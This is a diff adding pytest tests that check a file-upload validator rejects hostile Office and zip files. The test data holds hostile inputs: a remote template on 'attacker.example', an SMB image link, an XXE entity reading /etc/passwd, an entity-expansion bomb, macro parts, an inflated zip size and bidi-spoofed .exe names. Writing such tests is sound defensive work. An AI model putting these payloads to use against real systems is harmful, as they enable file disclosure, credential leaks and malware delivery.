@@ -292,3 +292,121 @@ def test_it_refuses_a_pdf_that_does_not_parse(response_fra, corr_fra, data):
     with pytest.raises(ApplicationError, match="damaged and cannot be read"):
         _upload(response_fra, corr_fra, "law.pdf", data)
     assert not Attachment.objects.exists()
+
+
+# --- Office documents: every relationship of every part ---------------------------------
+
+RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
+OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def _rels(*relationships: str) -> bytes:
+    return (
+        f'<?xml version="1.0"?><Relationships xmlns="{RELS_NS}">{"".join(relationships)}</Relationships>'
+    ).encode()
+
+
+def _external(kind: str, target: str, mode: str = "External") -> bytes:
+    return _rels(
+        f'<Relationship Id="rId9" Type="{OFFICE_REL}/{kind}" Target="{target}" TargetMode="{mode}"/>'
+    )
+
+
+def _docx(parts: dict[str, bytes] | None = None) -> bytes:
+    return _zip(
+        {
+            "[Content_Types].xml": b"<Types/>",
+            "_rels/.rels": _rels(
+                f'<Relationship Id="r1" Type="{OFFICE_REL}/officeDocument" Target="word/document.xml"/>'
+            ),
+            "word/document.xml": b"<w:document/>",
+            **(parts or {}),
+        }
+    )
+
+
+REMOTE_TEMPLATE = _external("attachedTemplate", "https://attacker.example/macros.dotm")
+HOSTILE_OFFICE = {
+    "attached template": ("law.docx", _docx({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE})),
+    "external image": (
+        "law.docx",
+        _docx({"word/_rels/document.xml.rels": _external("image", "\\\\smb.example\\x.png")}),
+    ),
+    "external mode in other case": (
+        "law.docx",
+        _docx({"word/_rels/document.xml.rels": _external("oleObject", "file:///c:/x", " external ")}),
+    ),
+    "hyperlink to a file": (
+        "law.docx",
+        _docx({"word/_rels/document.xml.rels": _external("hyperlink", "file:///c:/cmd.exe")}),
+    ),
+}
+
+
+@pytest.mark.parametrize(("name", "data"), HOSTILE_OFFICE.values(), ids=HOSTILE_OFFICE.keys())
+def test_it_refuses_office_documents_that_fetch_outside_parts(response_fra, corr_fra, name, data):
+    with pytest.raises(ApplicationError, match="outside template or file"):
+        _upload(response_fra, corr_fra, name, data)
+    assert not Attachment.objects.exists()
+
+
+def test_it_refuses_a_remote_template_in_any_ooxml_package(response_fra, corr_fra):
+    # A spreadsheet is refused for its relationship before it is refused for its kind.
+    workbook = _zip({"[Content_Types].xml": b"<Types/>", "xl/_rels/workbook.xml.rels": REMOTE_TEMPLATE})
+    with pytest.raises(ApplicationError, match="outside template or file"):
+        _upload(response_fra, corr_fra, "law.docx", workbook)
+
+
+def test_it_accepts_a_document_with_web_links(response_fra, corr_fra):
+    data = _docx({"word/_rels/document.xml.rels": _external("hyperlink", "https://legislation.example/")})
+    assert _upload(response_fra, corr_fra, "law.docx", data).kind == "docx"
+
+
+@pytest.mark.parametrize(
+    "rels",
+    [
+        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">]>'
+        b'<Relationships xmlns="' + RELS_NS.encode() + b'">&b;</Relationships>',
+        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Relationships>&x;</Relationships>',
+        b"<Relationships><not-closed>",
+    ],
+    ids=["entity expansion", "external entity", "broken xml"],
+)
+def test_it_reads_relationships_without_entities(response_fra, corr_fra, rels):
+    with pytest.raises(ApplicationError, match="damaged and cannot be read"):
+        _upload(response_fra, corr_fra, "law.docx", _docx({"word/_rels/document.xml.rels": rels}))
+
+
+@pytest.mark.parametrize(
+    "extra",
+    [{"word/vbaProject.bin": b"\x00"}, {"xl/vbaProject.bin": b"\x00"}],
+    ids=["word macros", "macros under another folder"],
+)
+def test_it_refuses_macro_enabled_content(response_fra, corr_fra, extra):
+    with pytest.raises(ApplicationError, match="macros"):
+        _upload(
+            response_fra,
+            corr_fra,
+            "law.docx",
+            _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"x", **extra}),
+        )
+
+
+def test_it_refuses_a_zip_whose_directory_declares_a_bomb(response_fra, corr_fra):
+    data = bytearray(_docx())
+    # Raise one part's declared size in the central directory: it is read before anything is unpacked.
+    directory = data.rfind(b"PK\x01\x02")
+    data[directory + 24 : directory + 28] = (300 * 1024 * 1024).to_bytes(4, "little")
+    with pytest.raises(ApplicationError, match="unreasonable size"):
+        _upload(response_fra, corr_fra, "law.docx", bytes(data))
+
+
+def test_a_file_name_loses_its_bidi_controls(response_fra, corr_fra):
+    attachment = _upload(response_fra, corr_fra, "law\u202e\u2066-2004\u2069.txt", b"text")
+    assert attachment.original_name == "law-2004.txt"
+
+
+def test_a_bidi_override_cannot_disguise_the_extension(response_fra, corr_fra):
+    # Shown as "reportexe.txt" by a bidi-aware display, it is a .exe.
+    with pytest.raises(ApplicationError, match="Upload a PDF, DOCX, ODT or plain text"):
+        _upload(response_fra, corr_fra, "report\u202etxt.exe", b"MZ")
